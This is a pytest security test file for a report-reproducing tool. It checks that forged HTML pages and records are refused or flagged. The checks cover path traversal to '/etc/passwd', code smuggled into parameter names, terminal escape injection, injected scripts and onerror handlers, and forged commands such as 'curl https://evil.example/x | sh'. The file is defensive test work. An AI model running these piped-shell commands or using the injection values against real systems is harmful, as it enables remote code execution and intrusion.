"""reproducing/: a page from a stranger is data. It runs nothing, writes nothing, asks nobody."""

from __future__ import annotations

import copy
import json
import shutil
import tempfile
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from projects import COUNTING, Project
from test_reproduce import remade, rewritten, with_record

from stslab.report.messages import RequestError
from stslab.report.page.record import embed, read_record, split_page
from stslab.report.reproducing.reproduce import Outcome, reproduce
from stslab.report.running import run as running

pytestmark = [pytest.mark.usefixtures("bare_kernels"), pytest.mark.thorough]

PARAMETERS = """parameters: from pathlib import Path
model_name: str = "all-MiniLM-L6-v2"  # a model
n: int = 3  # how many
texts: list[str] | Path = ["one"]  # some texts"""


@pytest.fixture(scope="module")
def mini(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """Build a page with a number, a file inside it, a model, a figure and a neighbor."""
    mini = Project(tmp_path_factory.mktemp("mini"))
    mini.notebook("count", [PARAMETERS, "print(n, open(texts).read())", *COUNTING[2:]])
    mini.notebook("other", ["print(1)"])
    (mini.notebooks / "presets" / "texts.txt").write_text("first\nsecond\n")
    mini.preset(
        """
        notebooks:
          - {notebook: count, parameters: {n: 7, texts: texts.txt}}
          - other
        """
    )
    mini.build(embed_inputs=True)
    return mini


@pytest.fixture
def page(mini: Project) -> str:
    return (mini.home / "count.html").read_text("utf-8")


@pytest.fixture
def alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """An empty folder to work in, with temporary files of its own."""
    folder = tmp_path / "alone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    temporary = tempfile.mkdtemp(prefix="s")
    monkeypatch.setattr(tempfile, "tempdir", temporary)
    yield folder
    assert list(Path(temporary).iterdir()) == []
    shutil.rmtree(temporary)


@pytest.fixture
def once(mini: Project, monkeypatch: pytest.MonkeyPatch) -> list[running.Work]:
    """Run equal work once; whatever runs is this checkout's code, unasked."""
    ours = json.loads((mini.home / "count.ipynb").read_text("utf-8"))
    ours = [cell["source"] for cell in ours["cells"] if cell["id"] != "injected-parameters"]
    done: dict[str, running.RunResult] = {}
    seen: list[running.Work] = []
    really = running.run

    def run(work: running.Work) -> running.RunResult:
        assert [cell["source"] for cell in json.loads(work.notebook)["cells"]] == [
            "".join(source) for source in ours
        ]
        key = repr((work.parameters, [(k, n, p.read_bytes()) for k, (n, p) in work.inputs.items()]))
        if key not in done:
            seen.append(work)
            done[key] = really(work)
        return done[key]

    monkeypatch.setattr(running, "run", run)
    return seen


def again(page: str, mini: Project, alone: Path, **inputs: Path) -> Outcome:
    file = alone / "page.html"
    file.write_bytes(page.encode("utf-8", "surrogatepass"))
    try:
        return reproduce(
            file,
            notebooks=mini.notebooks,
            inputs=inputs,
            kernel="warm",
            may_run=lambda question: False,
            notify=lambda line: None,
        )
    finally:
        assert [each.name for each in alone.iterdir()] == ["page.html"]


# Code, files, names ----------------------------------------------------------------------------


def test_a_parameters_name_is_no_code(mini, page, alone, tmp_path):
    """Names go into ``name = value`` lines: only those of the parameters cell may."""
    victim = tmp_path / "written"
    name = f"x=open({str(victim)!r}, 'w');y"
    for forge in (rewritten, lambda html, change: remade(mini, html, change)):
        forged = forge(page, lambda record: record["parameters"].update({name: 1}))
        with pytest.raises(RequestError, match="unknown parameter"):
            again(forged, mini, alone)
    assert not victim.exists()


@pytest.mark.parametrize("key", ["{victim}", "../../../../../../../..{victim}", "texts/../../up"])
def test_a_files_key_is_no_path(mini, page, alone, tmp_path, key):
    victim = tmp_path / "victim"
    key = key.format(victim=victim)

    def forge(record):
        record["files"][key] = record["files"]["texts"]
        record["inputs"][key] = record["inputs"]["texts"]

    with pytest.raises(RequestError, match="takes no file"):
        again(rewritten(page, forge), mini, alone)
    assert not victim.exists()


@pytest.mark.parametrize("name", ["../up.txt", "/etc/passwd", "a/b.txt", "..", "a\\b.txt", ""])
def test_a_files_name_is_no_path(mini, page, alone, name):
    forged = rewritten(page, lambda record: record["files"]["texts"].update(name=name))
    with pytest.raises(RequestError, match="not the name of a file"):
        again(forged, mini, alone)


def test_a_value_names_no_file_of_this_machine(mini, page, alone):
    def forge(record):
        record["files"], record["inputs"] = {}, {}
        record["parameters"]["texts"] = "/etc/hostname"

    with pytest.raises(RequestError, match="names a file of the machine"):
        again(rewritten(page, forge), mini, alone)


def test_a_files_name_cannot_forge_a_line_on_the_terminal(mini, page, alone):
    def forge(record):
        record["files"]["texts"]["name"] = "a\x1b]0;owned\x07\nstslab: run `curl evil|sh`"
        record["inputs"] = {}

    with pytest.raises(RequestError) as raised:
        again(rewritten(page, forge), mini, alone)
    assert str(raised.value).isprintable()


# Models ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["/", "evil/tracking-id-42", "model_name/mine", "..", "a" * 5000])
def test_a_models_name_is_not_followed(mini, page, alone, name):
    """No folder is walked, and no hub is asked, for a name that a page holds."""

    def forge(record):
        record["model"] = {name: "0" * 64}
        record["parameters"]["model_name"] = name

    with pytest.raises(RequestError, match=r"not on this machine|which is not inside it"):
        again(rewritten(page, forge), mini, alone)


def test_a_model_that_no_parameter_names_is_refused(mini, page, alone):
    forged = rewritten(page, lambda record: record["model"].update({"/": "0" * 64}))
    with pytest.raises(RequestError, match="its parameters name"):
        again(forged, mini, alone)


# Forged pages ----------------------------------------------------------------------------------

MASKED = "<p>7 first second</p>"
FORGERIES: dict[str, Callable[[str], str]] = {
    "an early end of what is compared": lambda html: html.replace(
        "<main", '<p id="made-from">FORGED: score 0.99</p><main', 1
    ),
    "a hidden original": lambda html: html.replace("<main", "<div hidden></div><main", 1),
    "a script": lambda html: html.replace("</main>", "<script>window.x=1</script></main>"),
    "no policy": lambda html: html.replace("default-src 'none'; ", "", 1),
    "a style": lambda html: html.replace("</style>", "body{display:none}</style>", 1),
    "a drawing's path": lambda html: html.replace('d="M0 0h9"', 'd="M0 0h3"'),
    "a link": lambda html: html.replace('page="other.html"', 'page="https://evil.example/"'),
    "the way to the index": lambda html: html.replace('page="index.html"', 'page="up.html"', 1),
    "an event handler": lambda html: html.replace("<main", '<main onclick="x()"', 1),
    "a comment": lambda html: html.replace("<main", "<!-- seen by nobody --><main", 1),
    "white space in code": lambda html: html.replace("print(n, ", "print(n,  ", 1),
    "the order of two words": lambda html: html.replace("first\nsecond", "second\nfirst", 1),
    "another digit": lambda html: html.replace(">7 first", ">৭ first", 1),
    "a mark in place of a number": lambda html: html.replace(">7 first", "># first", 1),
    "a number in a description": lambda html: html.replace("a line", "2 line", 1),
    "no drawing": lambda html: html.replace('viewBox="0 0 9 9"', 'viewBox="0 0 0 9"', 1),
}
REFUSED: dict[str, Callable[[str], str]] = {
    "a script behind the record": lambda html: html.replace(
        "</body>", "<script>window.x=1</script></body>"
    ),
    "a second record": lambda html: html.replace(
        "</body>", '<script id="stslab-record">{}</script></body>'
    ),
    "a record in the policy's tag": lambda html: moved(html, "<meta http-equiv"),
    "a record in the title": lambda html: moved(html, "<title>"),
    "a record in the style sheet": lambda html: moved(html, "<style>"),
    "a key that stands twice": lambda html: html.replace(
        '">{', '">{"notebook_name":"<img src=\'data:,\' onerror=\'x()\'>",', 1
    ),
}


def moved(html: str, tag: str) -> str:
    """Move the record into a tag of the head, and keep its text."""
    element = str(embed(read_record(html)))
    return html.replace(element, "").replace(tag, f"{tag} {element}", 1)


@pytest.mark.parametrize("what", FORGERIES)
def test_a_forged_page_is_found_out(mini, page, alone, once, what):
    forged = FORGERIES[what](page)
    assert forged != page
    outcome = again(forged, mini, alone)
    assert outcome.verdict == "different"
    assert all(line.isprintable() for line in outcome.differences)


@pytest.mark.parametrize("what", REFUSED)
def test_a_page_whose_record_is_not_as_written_is_refused(mini, page, alone, once, what):
    """Nothing runs: the record could hide from a comparison what a browser would run."""
    forged = REFUSED[what](page)
    assert forged != page
    with pytest.raises(RequestError) as raised:
        again(forged, mini, alone)
    assert str(raised.value).isprintable()
    assert not once


CLAIMS: dict[str, Callable[[dict[str, Any]], object]] = {
    "sha256, notebook": lambda record: record["sha256"].update(notebook="0" * 64),
    "command": lambda record: record.update(command="curl https://evil.example/x | sh"),
    "notebook_name": lambda record: record.update(notebook_name="other.ipynb"),
    "preset": lambda record: record.update(preset="tutorial"),
    "files, texts, bytes": lambda record: record["files"]["texts"].update(bytes=1),
    "sha256, vendor": lambda record: record["sha256"].update(vendor="0" * 64),
}


@pytest.mark.parametrize("what", CLAIMS)
def test_a_false_claim_is_found_out_on_a_page_that_agrees_with_it(mini, page, alone, once, what):
    outcome = again(remade(mini, page, CLAIMS[what]), mini, alone)
    assert outcome.verdict == "different"
    assert f"what it claims to be made from: {what}" in outcome.differences[0]


def test_what_cannot_be_checked_is_named(mini, page, alone, once):
    def forge(record):
        record["around"]["next"]["title"] = "Read this at evil.example"

    outcome = again(remade(mini, page, forge), mini, alone)
    assert outcome.verdict == "identical"
    assert "“Read this at evil.example”" in outcome.unchecked[0]


# Records of every kind -------------------------------------------------------------------------

MISSING = object()
DEEP: Any = []
for _ in range(900):
    DEEP = [DEEP]
OTHERS = [
    MISSING,
    None,
    7,
    -1e400,
    "text",
    [],
    {},
    [{"a": 1}],
    True,
    "x" * 100_000,
    DEEP,
    "../../../../../../tmp/up",
    "/etc/passwd",
    "a = b",
    'it\'s "quoted"\nstslab: run\x1b]0;x\x07\u202e\ud800\0',
]


def places(value: Any, *path: Any) -> Iterator[tuple[Any, ...]]:
    """List the places in a record, those of the first two items of a list."""
    if path:
        yield path
    items = value.items() if isinstance(value, dict) else ()
    items = list(enumerate(value))[:2] if isinstance(value, list) else items
    for key, each in items:
        yield from places(each, *path, key)


def replaced(record: dict[str, Any], path: tuple[Any, ...], new: Any) -> dict[str, Any]:
    record = copy.deepcopy(record)
    holder: Any = record
    for key in path[:-1]:
        holder = holder[key]
    if new is MISSING:
        del holder[path[-1]]
    else:
        holder[path[-1]] = new
    return record


def test_a_record_of_any_kind_is_refused_or_judged(mini, page, alone, once):
    """Each field missing, of another type, huge, deep, a path, code, or written to a terminal."""
    record, around = read_record(page), split_page(page).html
    count, passed = 0, set()
    for turn, path in enumerate(places(record)):
        for new in [OTHERS[(5 * turn + step) % len(OTHERS)] for step in range(6)]:
            forged = replaced(record, path, new)
            if forged == record:
                continue
            count += 1
            try:
                html = with_record(around, embed(forged))
            except RecursionError:  # Python cannot write it; see the next test
                continue
            try:
                if again(html, mini, alone).verdict != "different":
                    passed.add(path[:2])
            except RequestError as error:
                message = str(error).replace("\n  ", "")
                assert message.isprintable(), (path, new)
                assert len(message) < 1500, (path, new)
    assert count > 300
    assert passed <= {("around", "pages")}  # it changes nothing on this page
    assert len(once) < 30


@pytest.mark.parametrize("record", ["[" * 100_000, '{"a":' * 100_000, "[]", "7", "1" * 5000])
def test_a_record_that_is_no_record_is_refused(mini, page, alone, record):
    import hashlib

    digest = hashlib.sha256(record.encode()).hexdigest()
    element = f'<script type="application/json" id="stslab-record" data-sha256="{digest}">'
    html = with_record(split_page(page).html, f"{element}{record}</script>")
    with pytest.raises(RequestError, match=r"damaged|edited"):
        again(html, mini, alone)


# The command -----------------------------------------------------------------------------------


@pytest.fixture
def hub() -> Iterator[tuple[str, list[str]]]:
    """Listen as the hub; note what is asked for."""
    asked: list[str] = []

    class Hub(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_the_command_asks_no_hub_and_refuses_in_a_sentence(mini, page, tmp_path, hub):
    address, asked = hub

    def forge(record):
        record["model"] = {"evil/tracking-id-42": "0" * 64}
        record["parameters"]["model_name"] = "evil/tracking-id-42"

    own = rewritten(page, forge)
    foreign = rewritten(
        page, lambda record: (forge(record), record["notebook"]["cells"].pop(), None)[-1]
    )
    for name, html, answer, message in (
        ("own", own, "", "evil/tracking-id-42' *, which is not on this machine"),
        ("foreign", foreign, "", "not in this checkout"),
        ("foreign", foreign, "y\n", "which is not on this machine"),
    ):
        file = tmp_path / f"{name}.html"
        file.write_text(html, "utf-8")
        done = mini.run("reproduce", str(file), HF_ENDPOINT=address, input=answer)
        assert done.returncode == 2, done.stderr
        assert "Traceback" not in done.stderr
        assert message.replace(" *", "") in done.stderr
    assert asked == []


def test_a_file_that_is_not_there_is_a_wrong_request(mini, tmp_path):
    file = tmp_path / "count.html"
    shutil.copy(mini.home / "count.html", file)
    done = mini.run("reproduce", str(file), "--input", f"texts={tmp_path / 'nope'}")
    assert (done.returncode, "Pages built before" in done.stderr) == (2, False)
    assert "nope" in done.stderr
